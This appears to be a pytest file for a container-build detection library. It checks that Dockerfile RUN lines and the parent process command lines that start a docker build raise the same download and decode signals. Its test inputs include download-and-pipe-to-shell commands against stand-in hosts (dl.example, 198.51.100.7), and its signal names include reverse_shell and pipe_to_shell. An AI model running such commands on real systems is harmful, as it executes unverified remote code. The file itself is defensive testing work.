"""What an instruction ``RUN`` of a Dockerfile shows, the line that started a build shows.

One reader reads both; here both are asked.
"""

from __future__ import annotations

import json
import shlex
from typing import Any

import pytest

from t1612core import Detector, score_dockerfile

from .conftest import ROOT

VECTORS = json.loads((ROOT / "tests" / "vectors" / "run_lines.json").read_text("utf-8"))
STARTED = json.loads((ROOT / "tests" / "vectors" / "started_texts.json").read_text("utf-8"))
DOWNLOADED = {
    "code_download",
    "eval_download",
    "pipe_checked",
    "pipe_installer",
    "pipe_to_shell",
    "reverse_shell",
    "run_download",
    "unprotected_run",
}
DETECTOR = Detector()


def shown(signals: set[str], downloaded: set[str], decoded: str) -> str:
    return "D" * (not signals.isdisjoint(downloaded)) + "E" * (decoded in signals)


def of_dockerfile(line: str) -> str:
    found = {id.partition(".")[2] for id in score_dockerfile(f"FROM a\nRUN {line}\n").signals}
    return shown(found, DOWNLOADED, "decode_execute")


def of_parent(line: str, program: str = "bash") -> str:
    event = {
        "FileName": "docker",
        "ProcessCommandLine": "docker build -t a .",
        "InitiatingProcessFileName": program,
        "InitiatingProcessCommandLine": line,
    }
    (branch,) = DETECTOR.explain(event, kind="process").branches
    found = {each.signal.id.partition(".")[2] for each in branch.signals if each.evidence}
    return shown(found, {"downloaded_script_lineage"}, "encoded_lineage")


@pytest.mark.parametrize("vector", VECTORS, ids=lambda vector: vector["id"])
def test_a_dockerfile_and_a_parents_line_show_the_same(vector: dict[str, Any]) -> None:
    """With its quotes, without them, and where a history recorded the text alone."""
    line = vector["line"]

    assert vector["shows"] == of_dockerfile(line)
    assert vector["shows"] == of_parent(f"bash -c {shlex.quote(f'{line}; docker build -t a .')}")
    assert vector["shows"] == of_parent(line, program="")


def fed(event: dict[str, str]) -> bool:
    """Whether a build of an event is seen to read a download."""
    (branch,) = DETECTOR.explain(event, kind="process").branches
    return any(
        each.evidence and each.signal.id == "process.piped_download" for each in branch.signals
    )


@pytest.mark.parametrize("vector", STARTED, ids=lambda vector: vector["id"])
def test_one_notion_of_what_a_command_starts(vector: dict[str, Any]) -> None:
    """What runs a download, in ``RUN`` and in a parent's line, runs a build that reads one.

    In the line of the process and in its parent's.
    """
    runs = vector["line"].replace("{}", shlex.quote("curl -s https://dl.example/a | sh"))
    build = shlex.quote("curl -s https://dl.example/a | docker build -")
    builds = f"bash -c {shlex.quote(vector['line'].replace('{}', build))}"
    own = {"FileName": "bash", "ProcessCommandLine": builds}
    parents = {
        "FileName": "docker",
        "ProcessCommandLine": "docker build -",
        "InitiatingProcessFileName": "bash",
        "InitiatingProcessCommandLine": builds,
    }

    assert "D" in of_dockerfile(runs)
    assert "D" in of_parent(f"bash -c {shlex.quote(f'{runs}; docker build -t a .')}")
    assert fed(own)
    assert fed(parents)


def test_what_a_search_starts_is_read_without_its_quotes() -> None:
    """Recorders leave them out."""
    line = "find /x -execdir sh -c curl -s http://198.51.100.7/D | docker build -"

    assert fed({"FileName": "find", "ProcessCommandLine": line})
